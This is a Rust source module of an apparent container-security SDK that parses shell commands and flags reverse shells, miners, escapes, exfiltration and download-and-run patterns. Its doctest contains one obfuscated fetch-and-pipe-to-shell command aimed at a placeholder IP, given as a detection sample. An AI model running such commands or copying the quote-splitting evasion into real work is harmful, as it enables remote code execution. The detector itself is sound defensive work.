//! Classification of commands: those of an exec, a container, or a probe, with the shell scripts
//! inside them.
//!
//! A command line is parsed as a shell parses it: quotes are removed, so that `c''url` is `curl`;
//! pipes, lists, substitutions, and the scripts of `sh -c` and `eval` are followed; wrappers such
//! as `sudo`, `env`, and `timeout` are skipped. Tables of names, options, and paths then classify
//! the commands. Nothing is executed, and no variable except `$IFS` is expanded, so a script that
//! is built at run time is not recognized.
//!
//! Time and memory are linear in the length of the text. At most [`MAX_SCRIPT_BYTES`] bytes of a word or
//! script and [`MAX_ARGUMENTS_BYTES`] of an argument vector are read, the beginning and the end of a longer
//! one, and scripts nested deeper than [`MAX_DEPTH`] are not.
//!
//! ```
//! use wardline_sdk::rules::command::{Commands, Kind};
//!
//! let words = ["sh", "-c", "cu''rl -fsSL http://203.0.113.9/x.sh | sh"];
//! let signs = Commands::from_arguments(words).signs();
//! assert_eq!(signs[0].kind, Kind::DownloadAndRun);
//! assert_eq!(signs[0].text, "curl -fsSL http://203.0.113.9/x.sh | sh");
//! ```

mod copy;
mod download;
mod escape;
mod evasion;
mod files;
mod kind;
mod metadata;
mod miner;
mod parse;
mod persistence;
mod program;
mod reverse_shell;
mod sending;
mod shell;
mod tools;

#[cfg(test)]
mod tests;

pub use files::is_sensitive_file;
pub use kind::Kind;
pub use miner::is_miner_image;
pub use program::starts_interpreter;
pub use tools::is_offensive_image;

use parse::{Command, Parser};

/// The maximum length, in bytes, of a word or script that is read as a whole.
pub const MAX_SCRIPT_BYTES: usize = 16 * 1024;

/// The maximum length, in bytes, of all words of an argument vector that are read. A command of an exec has
/// at most 1 MiB (the limit of Go's servers on the head of a request).
pub const MAX_ARGUMENTS_BYTES: usize = 256 * 1024;

/// The maximum nesting of scripts that are read; `sh -c "sh -c '...'"` has two levels.
pub const MAX_DEPTH: usize = 6;

/// The maximum length of a sign's text, in characters.
const MAX_SIGN_CHARS: usize = 300;

/// A suspicious part of a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sign {
    /// The purpose.
    pub kind: Kind,
    /// The part of the command, without quotes; at most 300 characters.
    pub text: String,
}

/// The commands of a command line or script.
#[derive(Debug, Clone, Default)]
pub struct Commands {
    commands: Vec<Command>,
}

impl Commands {
    /// Parses an argument vector: that of an exec, or `command` and `args` of a container.
    ///
    /// If a container has arguments only, the program is that of the image and unknown. A single
    /// argument that contains blanks, and the argument after a leading `-c`, are then parsed as
    /// scripts.
    #[must_use]
    pub fn from_arguments<'a>(words: impl IntoIterator<Item = &'a str>) -> Self {
        Self {
            commands: Parser::default().arguments(words),
        }
    }

    /// Parses a shell script.
    #[must_use]
    pub fn from_script(text: &str) -> Self {
        Self {
            commands: Parser::default().script(text),
        }
    }

    /// Parses an argument vector whose words were joined with blanks, as those of lifecycle hooks
    /// and probes are: the text after `sh -c` is one script.
    #[must_use]
    pub fn from_line(line: &str) -> Self {
        Self::from_script(program::joined_script(line).unwrap_or(line))
    }

    /// Returns the suspicious parts, each once, in the order of their kinds.
    #[must_use]
    pub fn signs(&self) -> Vec<Sign> {
        let mut found = FoundSigns::default();
        let commands = self.commands.as_slice();
        reverse_shell::find(commands, &mut found);
        miner::find(commands, &mut found);
        escape::find(commands, &mut found);
        download::find(commands, &mut found);
        metadata::find(commands, &mut found);
        files::find(commands, &mut found);
        tools::find(commands, &mut found);
        sending::find(commands, &mut found);
        evasion::find(commands, &mut found);
        persistence::find(commands, &mut found);
        copy::find(commands, &mut found);
        if self.is_shell() {
            found.add(Kind::Shell, self.text());
        }
        found.signs.sort_by_key(|sign| sign.kind);
        found.signs
    }

    /// Returns whether this starts a shell that reads commands from its input: `bash`, `sh -i`,
    /// `sh -c "clear; (bash || ash || sh)"`.
    #[must_use]
    pub fn is_shell(&self) -> bool {
        self.commands
            .iter()
            .any(|command| command.is_bare_shell() && !command.piped_into)
    }

    fn text(&self) -> String {
        parse::joined(&self.commands, "; ")
    }
}

/// The signs that were found so far.
#[derive(Debug, Default)]
struct FoundSigns {
    signs: Vec<Sign>,
}

impl FoundSigns {
    fn add(&mut self, kind: Kind, text: impl AsRef<str>) {
        let text: String = text.as_ref().chars().take(MAX_SIGN_CHARS).collect();
        let sign = Sign { kind, text };
        if !self.signs.contains(&sign) {
            self.signs.push(sign);
        }
    }
}
